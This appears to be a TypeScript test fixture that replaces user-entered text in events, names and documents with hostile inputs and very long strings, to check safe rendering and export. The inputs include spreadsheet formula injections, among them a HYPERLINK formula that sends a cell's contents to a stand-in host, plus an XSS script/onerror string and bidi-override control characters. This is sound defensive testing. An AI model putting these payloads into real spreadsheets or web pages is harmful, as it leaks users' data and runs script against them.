import type { Cell, Document, Part } from '#documents/model/document';
import { printable } from '#documents/model/text-safety';
import type { Recorded } from '#eventing/event-store';

/** Texts that a program might obey instead of show. A formula, where it is reckoned, comes to 42. */
const harmful = [
  '=6*7',
  '+6*7',
  '-6*-7',
  '@SUM(6,36)',
  '\t=6*7',
  '=HYPERLINK("http://elsewhere.example/?"&A1,"42")',
  '<script>alert(1)</script><img src=x onerror=alert(1)> & "so" ]]> \'so\'',
  'bell\u0007 escape\u001b[31m null\u0000 next\u0085 turned\u202e round\u2066 last\ufffe lone\ud800 end',
  'שלום & <b>עולם</b>',
  'شركة السلامة',
] as const;

/** Whether a text has letters that run from right to left. */
export function isFromTheRight(text: string): boolean {
  return /[\u0590-\u07ff]/u.test(text);
}

/** The same event in which whatever someone typed is meant to do harm, each text in its own way. */
export function hostile(event: Recorded): Recorded {
  const { data, ...around } = JSON.parse(event.body) as { data: unknown };
  let nth = event.position;
  const harmed = JSON.stringify(data, (_, value: unknown) => {
    // Ids, days and kinds have no spaces; what people write has.
    if (typeof value !== 'string' || !value.includes(' ')) return value;
    nth += 1;
    return harmful[nth % harmful.length];
  });
  return { ...event, body: JSON.stringify({ ...around, data: JSON.parse(harmed) as unknown }) };
}

/** The same of what somebody is called: each person in a way of their own. */
export function hostileName(person: string): string {
  const nth = [...person].reduce((sum, letter) => sum + letter.charCodeAt(0), 0);
  return harmful[nth % harmful.length] ?? '';
}

const long = 'Ten thousand characters, word by word. '.repeat(257).slice(0, 10_000);
const unbroken = 'x'.repeat(10_000);

/** The same document with a text of 10,000 characters in each table and part, one of them a single word. */
export function withLongTexts(document: Document): Document {
  const parts = document.parts.map((part, at): Part => {
    if (part.kind === 'paragraph') return at === 0 ? { kind: 'paragraph', text: long } : part;
    if (part.kind === 'list') return { ...part, items: [...part.items.slice(1), { text: long }] };
    if (part.kind !== 'table') return part;
    const text = part.id === document.mainTable ? unbroken : long;
    return { ...part, rows: part.rows.map((row, nth) => (nth === 0 ? withText(row, text) : row)) };
  });
  return { ...document, parts };
}

function withText(row: readonly Cell[], text: string): readonly Cell[] {
  const first = row.findIndex(({ kind }) => kind === 'text');
  return row.map((cell, at) => (at === first ? { kind: 'text', text: printable(text) } : cell));
}
